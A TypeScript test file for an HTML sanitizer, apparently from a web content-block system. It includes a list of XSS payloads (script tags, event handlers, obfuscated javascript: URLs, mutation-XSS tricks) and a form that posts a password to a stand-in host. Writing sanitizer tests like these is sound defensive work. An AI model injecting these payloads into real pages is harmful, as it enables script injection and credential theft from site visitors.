import fc from 'fast-check'
import { expect, test } from 'vitest'
import { renderBlock } from '#blocks/testing/render-block.tsx'
import { htmlBlock } from './block.ts'
import { sanitizeHtml } from './sanitize-html.ts'

test('parsing the defaults returns them unchanged, and they are sanitized', () => {
  expect(htmlBlock.schema.parse(htmlBlock.defaults)).toEqual(htmlBlock.defaults)
  expect(sanitizeHtml(htmlBlock.defaults.html)).toBe(htmlBlock.defaults.html)
})

test('harmless HTML is preserved', () => {
  const html =
    '<h3>Sizes</h3><table><tbody><tr><th scope="row">Low</th><td>11 in</td></tr></tbody></table><p>See <a href="/care">care</a> &amp; <em>use</em>.</p>'
  expect(renderBlock('html', { html })).toBe(`<div class="html text">${html}</div>`)
})

const hostile = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg onload=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href=" &#1; javascript:alert(1)">x</a>',
  '<iframe src="https://evil.test"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="x"></object><embed src="x">',
  '<form action="https://evil.test"><input name=password></form>',
  '<style>body{display:none}</style>',
  '<p style="position:fixed;inset:0">x</p>',
  '<div class="menu-panel" id="main">x</div>',
  '<base href="https://evil.test/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.test">',
  '<link rel="stylesheet" href="https://evil.test/x.css">',
  '<math><mtext></p><script>alert(1)</script>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<p data-island="embed" data-props="{}">x</p>',
  '<button popovertarget="site-menu" onclick="alert(1)">x</button>',
]

/** The tags as a browser parses them, without attribute values. */
const tagsOf = (html: string): string[] =>
  (html.match(/<[a-z](?:"[^"]*"|[^">])*>/gi) ?? []).map((tag) => tag.replace(/"[^"]*"/g, '""'))
const addressesOf = (html: string): string[] =>
  [...html.matchAll(/\s(?:href|src)="([^"]*)"/g)].map(([, address]) => address ?? '')

const dangerous =
  /^<(script|svg|iframe|object|embed|form|input|style|base|meta|link|math|noscript|button|template)|\s(on\w+|style|class|id|srcdoc|data-\w+|popovertarget)=/i

const expectHarmless = (html: string): void => {
  for (const tag of tagsOf(html)) expect(tag).not.toMatch(dangerous)
  for (const address of addressesOf(html)) expect(address.toLowerCase()).not.toMatch(/^[^/?#]*(script|data):/)
}

test.each(hostile)('malicious HTML is neutralized: %s', (html) => {
  expectHarmless(sanitizeHtml(html))
})

test('the check detects malicious HTML', () => {
  for (const html of hostile.slice(0, 5)) expect(() => expectHarmless(html.replace(/=(\w\S*?)>/, '="$1">'))).toThrow()
})

test('any combination is sanitized, and sanitizing is idempotent', () => {
  const piece = fc.oneof(
    fc.constantFrom(...hostile),
    fc.constantFrom('<', '>', '"', "'", '<!--', '-->', '</', '<p ', '&lt;'),
    fc.string(),
  )
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 6 }), (pieces) => {
      const once = sanitizeHtml(pieces.join(''))
      expectHarmless(once)
      expect(sanitizeHtml(once)).toBe(once)
    }),
  )
})

test('removed tags leave HTML that parses the same again', () => {
  const once = sanitizeHtml('<p <script>alert(1)</script><svg onload=alert(1)><p data-island="embed">x</p>')
  expect(once).toBe('<p>alert(1)</p><p>x</p><p></p>')
  expect(sanitizeHtml(once)).toBe(once)
})

test('images are lazy and have alt text; links to new windows use noopener', () => {
  expect(sanitizeHtml('<img src="https://x.test/a.png">')).toBe(
    '<img src="https://x.test/a.png" loading="lazy" alt="" />',
  )
  expect(sanitizeHtml('<a href="https://x.test" target="_blank">x</a>')).toBe(
    '<a href="https://x.test" target="_blank" rel="noopener">x</a>',
  )
})
